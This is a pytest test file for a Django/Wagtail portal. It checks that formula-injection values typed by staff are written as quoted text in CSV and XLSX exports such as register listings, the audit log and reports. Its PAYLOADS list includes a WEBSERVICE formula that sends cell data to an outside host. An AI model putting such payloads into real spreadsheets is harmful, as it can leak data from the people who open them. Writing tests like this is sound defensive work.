"""Formula injection (issue #14): a value typed by staff that starts with = + - @, a tab or a
carriage return is written as text in every XLSX and CSV the product produces — a text cell
(type "s", quote prefix, the text unchanged) in XLSX, a leading ' in CSV — while numbers stay
numbers. One test per export: the register listings, the audit log, the report workbook, the
visit statistics, Wagtail's own reports; and the helper itself."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from wagtail.models import ModelLogEntry, Page

from doingoai.accounts.services import roles_sync, user_create_with_role
from doingoai.core.spreadsheets import FormulaSafeExportMixin
from doingoai.registers.models import PressEvent, Unit, UnitMembership
from doingoai.registers.services import registers_grant_permissions
from doingoai.reports.exports import report_export
from doingoai.reports.periods import Period
from doingoai.reports.services import notable_event_add, report_create, report_update
from doingoai.text.spreadsheets import (
    looks_like_formula,
    neutralise_formula,
    neutralise_formula_cell,
    neutralise_workbook,
)
from doingoai.visitors.models import PageDailyVisits
from tests.factories import PASSWORD
from tests.registers.factories import PressEventFactory, UnitFactory

PAYLOADS = (
    '=WEBSERVICE("http://x/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)


# --- the helper -----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [*PAYLOADS, "-5%", "=", "+84 912 345 678"])
def test_formula_like_strings_get_a_quote_for_csv(value):
    assert looks_like_formula(value)
    assert neutralise_formula(value) == "'" + value
    assert neutralise_formula(neutralise_formula(value)) == "'" + value  # idempotent


@pytest.mark.parametrize(
    "value",
    [
        None,
        -5,
        -2.5,
        Decimal("-3.50"),
        0,
        True,
        date(2025, 4, 1),
        "",
        "Giao ban báo chí tuần 12",
        "Lào Cai – Vân Nam",
        " =1",  # a leading space is not read as a formula
        "'=1",
        "1+1",
        "a=b",
    ],
)
def test_numbers_none_and_ordinary_text_are_untouched(value):
    assert not looks_like_formula(value)
    assert neutralise_formula(value) is value


def test_xlsx_cells_become_text_and_numbers_stay_numbers():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([*PAYLOADS, -5, Decimal("-2.5"), "Giao ban"])
    assert sheet["A1"].data_type == "f"  # what openpyxl does on its own
    neutralise_workbook(workbook)
    out = io.BytesIO()
    workbook.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    for cell, payload in zip(row, PAYLOADS, strict=False):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)
    assert (row[6].value, row[6].data_type) == (-5, "n")
    assert (row[7].value, row[7].data_type) == (-2.5, "n")
    assert (row[8].value, row[8].data_type, row[8].quotePrefix) == ("Giao ban", "s", False)
    empty = sheet.cell(row=2, column=1)
    assert neutralise_formula_cell(empty) is empty and not empty.quotePrefix


def test_the_mixin_writes_csv_rows_and_xlsx_cells_as_text():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    class View(FormulaSafeExportMixin, SpreadsheetExportMixin):
        list_export = ["title", "count"]

    view = View()
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=view.list_export)
    for payload in PAYLOADS:
        view.write_csv_row(writer, {"title": payload, "count": -3})
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [["'" + payload, "-3"] for payload in PAYLOADS]

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    cells = list(view.generate_xlsx_row(sheet, {"title": PAYLOADS[0], "count": -3}))
    assert [(c.value, c.data_type) for c in cells] == [(PAYLOADS[0], "s"), (-3, "n")]
    assert cells[0].quotePrefix


# --- reading exports back -------------------------------------------------------------------------


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_text(content: bytes, payloads) -> list:
    cells = xlsx_cells(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    by_value = {}
    for cell in cells:
        by_value.setdefault(cell.value, cell)
    for payload in payloads:
        assert payload in by_value, repr(payload)
        cell = by_value[payload]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), repr(payload)
    for cell in cells:  # numbers are still numbers
        if isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
            assert cell.data_type == "n", cell.coordinate
    return cells


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def assert_csv_text(text: str, payloads) -> None:
    fields = [field for row in csv_rows(text) for field in row]
    for payload in payloads:
        assert "'" + payload in fields, repr(payload)
        assert payload not in fields, repr(payload)
    for field in fields:
        assert not looks_like_formula(field), repr(field)


def streamed(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


# --- our exports ----------------------------------------------------------------------------------


@pytest.fixture
def office(db):
    roles_sync()
    registers_grant_permissions()
    unit = UnitFactory(name="Sở Ngoại vụ", kind=Unit.Kind.DEPARTMENT, is_province_level=True)
    users = {}
    for role in ("editor", "administrator"):
        users[role] = user_create_with_role(
            username=f"ct_{role}", password=PASSWORD, role=role, email=f"ct_{role}@laocai.gov.vn"
        )
        UnitMembership.objects.create(user=users[role], unit=unit)
    events = [
        PressEventFactory(unit=unit, title=payload, held_on=date(2025, 4, 10 + n))
        for n, payload in enumerate(PAYLOADS)
    ]
    return {"unit": unit, "users": users, "events": events}


@pytest.mark.django_db
def test_register_listing_exports(client, office):
    client.force_login(office["users"]["editor"])
    url = reverse("registers_press_events:index")
    text = streamed(client.get(url, {"export": "csv"}))
    assert_csv_text(text, PAYLOADS)
    assert len(csv_rows(text)) == 1 + len(PAYLOADS)

    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    assert_xlsx_text(b"".join(response.streaming_content), PAYLOADS)


@pytest.mark.django_db
def test_audit_log_exports(client, office):
    admin = office["users"]["administrator"]
    content_type = ContentType.objects.get_for_model(PressEvent)
    for event in office["events"]:
        ModelLogEntry.objects.create(
            content_type=content_type,
            object_id=str(event.pk),
            label=event.title,
            action="wagtail.edit",
            user=admin,
            timestamp=timezone.now(),
            data={"changes": [{"field": "title", "label": event.title, "old": "A", "new": "B"}]},
        )
    client.force_login(admin)
    url = "/quan-tri/nhat-ky-thao-tac/"
    text = streamed(client.get(url, {"export": "csv", "action": "wagtail.edit"}))
    assert_csv_text(text, PAYLOADS)
    changes = [f"{payload}: A → B" for payload in PAYLOADS]
    assert_csv_text(text, changes)

    response = client.get(url, {"export": "xlsx", "action": "wagtail.edit"})
    assert_xlsx_text(b"".join(response.streaming_content), [*PAYLOADS, *changes])


@pytest.mark.django_db
def test_report_workbook(office):
    editor = office["users"]["editor"]
    report = report_create(user=editor, period=Period.quarter(2025, 2), unit=None)
    report_update(user=editor, report=report, superior_body=PAYLOADS[0])
    for text in PAYLOADS[:4]:
        notable_event_add(user=editor, report=report, text=f"{text} (sự kiện)")
    content = report_export(report, "xlsx").content
    cells = assert_xlsx_text(
        content,
        [
            *PAYLOADS,  # the press events' titles on their register's sheet
            PAYLOADS[0].upper(),  # the superior body, upper-cased in the header
            *(f"{text} (sự kiện)" for text in PAYLOADS[:4]),  # notable events
        ],
    )
    assert any(c.value == 1 and c.data_type == "n" for c in cells)


@pytest.mark.django_db
def test_visit_statistics_csv(client, portal):
    pages = [*portal.articles, portal.photo, portal.video, portal.standard][: len(PAYLOADS)]
    today = timezone.localdate()
    for n, (page, payload) in enumerate(zip(pages, PAYLOADS, strict=True)):
        Page.objects.filter(pk=page.pk).update(title=payload)
        PageDailyVisits.objects.create(page_id=page.pk, locale="vi", day=today, views=50 - n)
    client.force_login(portal.users["editor"])
    response = client.get("/quan-tri/thong-ke-truy-cap/", {"ngay": 7, "dinh-dang": "csv"})
    text = response.content.decode("utf-8-sig")
    assert_csv_text(text, PAYLOADS)
    rows = csv_rows(text)
    assert ["'" + PAYLOADS[0], "Tiếng Việt", "50"] in rows


@pytest.mark.django_db
def test_wagtails_own_report_exports(client, portal):
    """Wagtail's reports (here: locked pages) get the same row writers."""
    admin = portal.users["administrator"]
    pages = [*portal.articles, portal.photo, portal.video, portal.standard][: len(PAYLOADS)]
    for page, payload in zip(pages, PAYLOADS, strict=True):
        Page.objects.filter(pk=page.pk).update(
            title=payload, locked=True, locked_by=admin, locked_at=timezone.now()
        )
    client.force_login(admin)
    url = reverse("wagtailadmin_reports:locked_pages")
    assert_csv_text(streamed(client.get(url, {"export": "csv"})), PAYLOADS)
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    assert_xlsx_text(b"".join(response.streaming_content), PAYLOADS)
